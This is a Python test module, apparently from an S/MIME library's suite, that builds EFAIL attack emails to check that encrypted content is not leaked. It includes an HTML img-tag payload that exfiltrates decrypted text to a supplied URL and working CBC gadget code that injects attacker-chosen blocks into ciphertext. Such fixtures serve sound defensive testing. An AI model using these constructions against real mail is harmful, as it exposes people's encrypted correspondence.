"""Mails that carry somebody else's sealed words, so that opening or answering them would hand those on (EFAIL)."""

from __future__ import annotations

import base64

from asn1crypto.cms import ContentInfo

from smime_core.blocking import run
from smime_core.certificate import Certificate
from smime_core.message import encrypt_entity
from smime_core.providers.native import NativeProvider
from tests.browser.hostile_mails import SECRET
from tests.browser.mail_letters import html, mail, multipart, text

HARMLESS = "Are you coming on Thursday?"
REWRAPPED = "under another sender"
_BLOCK_BYTES = 16
_STOLEN = text(SECRET)


def reply_attacks(url: str, reader: Certificate) -> dict[str, bytes]:
    """Each by its attack, all for one reader; `REWRAPPED` shows the stolen words, the others must not."""
    sealed = run(encrypt_entity(_STOLEN, recipients=[reader], provider=NativeProvider()))
    inner = b"Content-Type: message/rfc822\r\n\r\n" + mail(sealed)
    quotes = html(f'<p>{HARMLESS}</p><img src="{url}/direct/'), html('"><p>end</p>')
    return {
        "below harmless words": mail(multipart("mixed", text(HARMLESS), sealed)),
        "above harmless words": mail(multipart("mixed", sealed, text(HARMLESS))),
        "between the quotes of an attribute": mail(multipart("mixed", quotes[0], sealed, quotes[1])),
        "as the other form of the words": mail(multipart("alternative", text(HARMLESS), sealed)),
        "beside markup": mail(multipart("related", html(f"<p>{HARMLESS}</p>"), sealed)),
        "in a message of its own": mail(multipart("mixed", text(HARMLESS), inner)),
        "behind other words of CBC": mail(_with_gadgets(sealed, [b'">\r\n<img src="//', url[-_BLOCK_BYTES:].encode()])),
        REWRAPPED: mail(sealed),
    }


def _with_gadgets(sealed: bytes, wanted: list[bytes]) -> bytes:
    """A sealed entity with blocks of the attacker's choice before its words, each behind one that is chance.

    The first block of every mail is known. What follows it opens as it was written, since the blocks are chained.
    """
    head, _, body = sealed.partition(b"\r\n\r\n")
    info = ContentInfo.load(base64.b64decode(body))
    content = info["content"]["encrypted_content_info"]
    octets, iv = content["encrypted_content"].native, content["content_encryption_algorithm"]["parameters"].native
    first, known = octets[:_BLOCK_BYTES], _STOLEN[:_BLOCK_BYTES]
    gadgets = [_xor(_xor(iv, known), block.ljust(_BLOCK_BYTES)[:_BLOCK_BYTES]) + first for block in wanted]
    content["encrypted_content"] = first + b"".join(gadgets) + octets[_BLOCK_BYTES:]
    return head + b"\r\n\r\n" + base64.encodebytes(info.dump(force=True)).replace(b"\n", b"\r\n")


def _xor(one: bytes, other: bytes) -> bytes:
    return bytes(left ^ right for left, right in zip(one, other, strict=True))
